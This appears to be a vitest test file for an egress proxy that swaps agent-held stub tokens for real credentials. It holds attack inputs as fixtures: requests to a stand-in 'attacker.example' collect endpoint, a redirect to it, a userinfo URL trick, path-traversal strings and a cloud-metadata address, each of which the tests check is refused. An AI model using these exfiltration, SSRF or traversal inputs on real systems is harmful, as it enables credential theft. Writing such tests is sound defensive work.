import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { activateConfig } from "../../helpers/activate-config.ts";
import { callAdmin, postAdmin } from "../../helpers/call-admin.ts";
import { DEMO_GATEWAY_CONFIG } from "../../helpers/demo-gateway-config.ts";
import { chunkedStream, mockUpstreams } from "../../helpers/mock-upstream.ts";
import {
  auditEntries,
  egress,
  newAgent,
  newCredential,
  newTeam,
  type TestAgent,
  type TestCredential,
} from "./vault-fixtures.ts";

const GITHUB = "https://api.github.com";
const ATTACKER = "https://attacker.example";

let upstreams: ReturnType<typeof mockUpstreams>;
let teamId: string;
let agent: TestAgent;
let credential: TestCredential;

/** An endpoint that reflects the request back: headers, URL and body, as JSON and in a header. */
async function reflect(request: Request, body: string): Promise<Response> {
  const headers = Object.fromEntries(request.headers);
  const echoed = JSON.stringify({ url: request.url, headers, body });
  return new Response(chunkedStream(echoed, [7, 3, 11]), {
    status: 200,
    headers: { "content-type": "application/json", "x-echo-authorization": request.headers.get("authorization") ?? "" },
  });
}

beforeEach(async () => {
  await activateConfig(DEMO_GATEWAY_CONFIG);
  teamId = await newTeam();
  agent = await newAgent(teamId);
  credential = await newCredential(teamId, { allowed_agents: [agent.id] });
  upstreams = mockUpstreams({
    [GITHUB]: async (request, body) => {
      const path = new URL(request.url).pathname;
      if (path === "/echo") return reflect(request, body);
      if (path === "/moved") return new Response(null, { status: 302, headers: { location: `${ATTACKER}/steal` } });
      return Response.json({ login: "octocat", path });
    },
    [ATTACKER]: () => Response.json({ thanks: true }),
  });
});

afterEach(() => upstreams.restore());

const withStub = (stub: string, extra: Record<string, string> = {}) => ({
  headers: { authorization: `Bearer ${stub}`, ...extra },
});

describe("egress proxy: swapping a stub for its secret", () => {
  it("sends the real secret to the bound destination and never shows it to the agent", async () => {
    const { response, text } = await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub));
    expect(response.status).toBe(200);
    expect(JSON.parse(text)).toEqual({ login: "octocat", path: "/user" });
    expect(upstreams.requests).toHaveLength(1);
    const sent = upstreams.requests[0];
    expect(sent?.url).toBe(`${GITHUB}/user`);
    expect(sent?.headers.get("authorization")).toBe(`Bearer ${credential.secret}`);
    // The gateway's own header is not forwarded.
    expect(sent?.headers.get("x-switchyard-key")).toBeNull();
    expect(text).not.toContain(credential.secret);
  });

  it("replaces the secret by the stub in a reflecting endpoint's answer: raw, base64 and URL-encoded, across chunks", async () => {
    const basic = btoa(`x-access-token:${credential.secret}`);
    const { response, text } = await egress(`${GITHUB}/echo?q=1`, agent.key, {
      method: "POST",
      ...withStub(credential.stub, { "content-type": "text/plain" }),
      // The agent cannot know the secret; it asks the endpoint to echo the header in every encoding.
      body: "echo please",
    });
    expect(response.status).toBe(200);
    const echoed = JSON.parse(text) as { headers: Record<string, string> };
    expect(echoed.headers.authorization).toBe(`Bearer ${credential.stub}`);
    expect(response.headers.get("x-echo-authorization")).toBe(`Bearer ${credential.stub}`);
    expect(text).not.toContain(credential.secret);
    expect(upstreams.requests[0]?.headers.get("authorization")).toBe(`Bearer ${credential.secret}`);
    // A reflection in other spellings: the endpoint's answer composed from what it received.
    upstreams.restore();
    upstreams = mockUpstreams({
      [GITHUB]: (request) => {
        const secret = (request.headers.get("authorization") ?? "").replace(/^Bearer /, "");
        const parts = [secret, btoa(`x-access-token:${secret}`), encodeURIComponent(`${secret}/?&`), basic];
        return new Response(chunkedStream(parts.join("\n"), [5, 2, 9, 1]), { status: 401 });
      },
    });
    const encoded = await egress(`${GITHUB}/echo`, agent.key, withStub(credential.stub));
    expect(encoded.response.status).toBe(401);
    expect(encoded.text).not.toContain(credential.secret);
    expect(encoded.text).not.toContain(btoa(`x-access-token:${credential.secret}`).slice(20, 40));
    expect(encoded.text).not.toContain(encodeURIComponent(credential.secret));
    expect(encoded.text.split("\n")[0]).toBe(credential.stub);
  });

  it("injects a query-parameter credential only as that parameter", async () => {
    const queryCredential = await newCredential(teamId, {
      allowed_agents: ["*"],
      destinations: [{ host: "*.github.com", methods: ["GET"] }],
      injection: { in: "query", name: "access_token" },
    });
    const { response, text } = await egress(`${GITHUB}/echo?access_token=${queryCredential.stub}&page=2`, agent.key);
    expect(response.status).toBe(200);
    const sent = new URL(upstreams.requests[0]?.url ?? "");
    expect(sent.searchParams.get("access_token")).toBe(queryCredential.secret);
    expect(sent.searchParams.get("page")).toBe("2");
    expect(text).toContain(queryCredential.stub);
    expect(text).not.toContain(queryCredential.secret);
  });

  it("passes a request without stubs through untouched", async () => {
    const { response } = await egress(`${GITHUB}/zen`, agent.key, { headers: { accept: "application/json" } });
    expect(response.status).toBe(200);
    expect(upstreams.requests[0]?.headers.get("authorization")).toBeNull();
  });
});

describe("egress proxy: the stub exfiltration attack", () => {
  it("refuses the stub towards a host the agent controls, calls nothing and audits the attempt", async () => {
    const { response, text } = await egress(`${ATTACKER}/collect`, agent.key, withStub(credential.stub));
    expect(response.status).toBe(403);
    expect(response.headers.get("x-switchyard-egress-refusal")).toBe("destination_not_bound");
    expect(JSON.parse(text)).toMatchObject({
      error: { message: expect.stringContaining("is not bound to GET https://attacker.example/collect") },
    });
    expect(upstreams.requests).toHaveLength(0);
    const entries = await auditEntries(`action=egress.denied&target_id=${credential.id}`);
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({
      action: "egress.denied",
      actor: { role: "agent" },
      target: { type: "credential", id: credential.id },
      team_id: teamId,
      details: {
        reason: "destination_not_bound",
        mismatch: "host",
        agent_id: agent.id,
        method: "GET",
        destination: `${ATTACKER}/collect`,
      },
    });
    expect(JSON.stringify(entries)).not.toContain(credential.secret);
  });

  it("refuses a stub moved into another header, even towards the bound host", async () => {
    const { response } = await egress(`${GITHUB}/echo`, agent.key, {
      headers: { "x-debug": credential.stub, authorization: `Bearer ${credential.stub}` },
    });
    expect(response.status).toBe(403);
    expect(response.headers.get("x-switchyard-egress-refusal")).toBe("stub_misplaced");
    expect(upstreams.requests).toHaveLength(0);
    const [entry] = await auditEntries(`action=egress.denied&target_id=${credential.id}`);
    expect(entry?.details.reason).toBe("stub_misplaced");
  });

  it("refuses plain http and userinfo tricks towards the bound host", async () => {
    const http = await egress("http://api.github.com/user", agent.key, withStub(credential.stub));
    expect(http.response.status).toBe(403);
    const userinfo = await egress(`https://api.github.com@attacker.example/x`, agent.key, withStub(credential.stub));
    expect(userinfo.response.status).toBe(403);
    expect(upstreams.requests).toHaveLength(0);
    const reasons = (await auditEntries(`action=egress.denied&target_id=${credential.id}`)).map(
      (entry) => entry.details.mismatch,
    );
    expect(reasons.sort()).toEqual(["scheme", "userinfo"]);
  });

  it("refuses a forged or deleted stub", async () => {
    const forged = `${credential.stub.slice(0, -4)}zzzz`;
    expect((await egress(`${GITHUB}/user`, agent.key, withStub(forged))).response.status).toBe(403);
    expect((await callAdmin(`/vault/credentials/${credential.id}`, { method: "DELETE" })).status).toBe(200);
    await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub)); // may still be served from the cache
    const afterPoll = await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub));
    expect(afterPoll.response.status).toBe(403);
    expect(afterPoll.response.headers.get("x-switchyard-egress-refusal")).toBe("unknown_stub");
  });
});

describe("egress proxy: bindings", () => {
  it("enforces the path prefix (segment-aware, no encoded separators) and the methods", async () => {
    const bound = await newCredential(teamId, {
      allowed_agents: [agent.id],
      destinations: [{ host: "api.github.com", path_prefix: "/repos/acme", methods: ["GET", "POST"] }],
    });
    const call = (path: string, method = "GET") =>
      egress(`${GITHUB}${path}`, agent.key, { method, ...withStub(bound.stub) });
    expect((await call("/repos/acme/widgets")).response.status).toBe(200);
    expect((await call("/repos/acme/widgets/issues", "POST")).response.status).toBe(200);
    const refusals: Array<[string, string, string | null]> = [];
    for (const [path, method] of [
      ["/repos/acme-evil/widgets", "GET"],
      ["/repos/other/widgets", "GET"],
      ["/repos/acme/..%2F..%2Fadmin", "GET"],
      ["/repos/acme/../../admin", "GET"],
      ["/repos/acme/widgets", "DELETE"],
    ] as const) {
      const { response } = await call(path, method);
      refusals.push([
        path,
        method,
        response.status === 403 ? response.headers.get("x-switchyard-egress-refusal") : null,
      ]);
    }
    expect(refusals.every(([, , reason]) => reason === "destination_not_bound")).toBe(true);
    expect(upstreams.requests.map((request) => new URL(request.url).pathname)).toEqual([
      "/repos/acme/widgets",
      "/repos/acme/widgets/issues",
    ]);
    const mismatches = (await auditEntries(`action=egress.denied&target_id=${bound.id}`)).map(
      (entry) => entry.details.mismatch,
    );
    // Refusals of one kind within a second are one entry, the rest counted in the next (flood-bounded audit).
    expect(mismatches.sort()).toEqual(["method", "path"]);
  });

  it("returns a redirect to the agent as is, without following it with the secret", async () => {
    const { response } = await egress(`${GITHUB}/moved`, agent.key, withStub(credential.stub));
    expect(response.status).toBe(302);
    expect(response.headers.get("location")).toBe(`${ATTACKER}/steal`);
    expect(upstreams.requests.map((request) => request.url)).toEqual([`${GITHUB}/moved`]);
    // Following it through the proxy with the stub is a new request, judged by the bindings again.
    const followed = await egress(`${ATTACKER}/steal`, agent.key, withStub(credential.stub));
    expect(followed.response.status).toBe(403);
    expect(upstreams.requests).toHaveLength(1);
  });

  it("applies a rotation on the next requests without a new stub", async () => {
    const rotated = ["ghp", crypto.randomUUID().replace(/-/g, ""), "Rot"].join("_");
    const rotate = await postAdmin(`/vault/credentials/${credential.id}/rotate`, { secret: rotated });
    expect(rotate.status).toBe(200);
    await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub)); // may still be served from the cache
    await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub));
    expect(upstreams.requests.at(-1)?.headers.get("authorization")).toBe(`Bearer ${rotated}`);
  });
});

describe("egress proxy: who may use a credential", () => {
  it("refuses an agent the credential is not granted to, and one of another team", async () => {
    const sibling = await newAgent(teamId);
    const denied = await egress(`${GITHUB}/user`, sibling.key, withStub(credential.stub));
    expect(denied.response.status).toBe(403);
    expect(denied.response.headers.get("x-switchyard-egress-refusal")).toBe("agent_not_allowed");
    const everyone = await newCredential(teamId, { allowed_agents: ["*"] });
    const outsider = await newAgent(await newTeam());
    const foreign = await egress(`${GITHUB}/user`, outsider.key, withStub(everyone.stub));
    expect(foreign.response.headers.get("x-switchyard-egress-refusal")).toBe("agent_not_allowed");
    expect((await egress(`${GITHUB}/user`, sibling.key, withStub(everyone.stub))).response.status).toBe(200);
    expect(upstreams.requests).toHaveLength(1);
    const [entry] = await auditEntries(`action=egress.denied&target_id=${credential.id}`);
    expect(entry?.details).toMatchObject({ reason: "agent_not_allowed", agent_id: sibling.id });
  });

  it("refuses keys that are not an agent's, and requests without a key", async () => {
    const plainKey = String((await postAdmin("/key/generate", { team_id: teamId })).body.key);
    const plain = await egress(`${GITHUB}/user`, plainKey, withStub(credential.stub));
    expect(plain.response.status).toBe(403);
    expect(plain.text).toContain("needs an agent's key");
    const anonymous = await egress(`${GITHUB}/user`, null, { headers: { "x-api-key": credential.stub } });
    expect(anonymous.response.status).toBe(401);
    const blocked = await newAgent(teamId);
    await postAdmin("/key/block", { key: blocked.key });
    expect((await egress(`${GITHUB}/user`, blocked.key, withStub(credential.stub))).response.status).toBe(401);
    expect(upstreams.requests).toHaveLength(0);
  });

  it("is closed to a stopped agent from the next request on, and open again once it is resumed", async () => {
    expect((await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub))).response.status).toBe(200);
    expect((await postAdmin(`/agents/${agent.id}/stop`, { reason: "incident" })).status).toBe(200);
    const stopped = await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub));
    expect(stopped.response.status).toBe(403);
    expect(stopped.response.headers.get("x-switchyard-governance")).toBe("agent_stopped");
    expect(upstreams.requests).toHaveLength(1);
    expect((await postAdmin(`/agents/${agent.id}/resume`, {})).status).toBe(200);
    expect((await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub))).response.status).toBe(200);
  });

  it("accepts the agent key as Proxy-Authorization, and as Authorization when the stub is elsewhere", async () => {
    const viaProxy = await egress(`${GITHUB}/user`, null, {
      headers: { "proxy-authorization": `Bearer ${agent.key}`, authorization: `Bearer ${credential.stub}` },
    });
    expect(viaProxy.response.status).toBe(200);
    expect(upstreams.requests[0]?.headers.get("proxy-authorization")).toBeNull();
    const queryCredential = await newCredential(teamId, {
      allowed_agents: [agent.id],
      injection: { in: "query", name: "key" },
    });
    const viaAuthorization = await egress(`${GITHUB}/user?key=${queryCredential.stub}`, null, {
      headers: { authorization: `Bearer ${agent.key}` },
    });
    expect(viaAuthorization.response.status).toBe(200);
    expect(upstreams.requests[1]?.headers.get("authorization")).toBeNull();
  });
});

describe("egress proxy: outbound policy and hygiene", () => {
  it("refuses private destinations under the outbound URL policy", async () => {
    const { response, text } = await egress("http://169.254.169.254/latest/meta-data/", agent.key);
    expect(response.status).toBe(403);
    expect(response.headers.get("x-switchyard-egress-refusal")).toBe("outbound_policy");
    expect(text).toContain("link-local");
    expect(upstreams.requests).toHaveLength(0);
  });

  it("answers a malformed target with 400", async () => {
    const { response, text } = await egress("ftp://files.example/x", agent.key);
    expect(response.status).toBe(400);
    expect(text).toContain("absolute http(s) URL");
  });

  it("never writes a secret to the console, whatever happens", async () => {
    const spies = (["log", "info", "warn", "error", "debug"] as const).map((level) =>
      vi.spyOn(console, level).mockImplementation(() => undefined),
    );
    try {
      await egress(`${GITHUB}/echo`, agent.key, withStub(credential.stub));
      await egress(`${ATTACKER}/x`, agent.key, withStub(credential.stub));
      await egress("http://10.0.0.1/x", agent.key, withStub(credential.stub));
      upstreams.restore();
      upstreams = mockUpstreams({}); // every destination unreachable
      const unreachable = await egress(`${GITHUB}/user`, agent.key, withStub(credential.stub));
      expect(unreachable.response.status).toBe(502);
      expect(unreachable.text).not.toContain(credential.secret);
      const logged = spies.flatMap((spy) => spy.mock.calls.map((call) => JSON.stringify(call.map(String))));
      expect(logged.join("\n")).not.toContain(credential.secret);
    } finally {
      for (const spy of spies) spy.mockRestore();
    }
  });
});
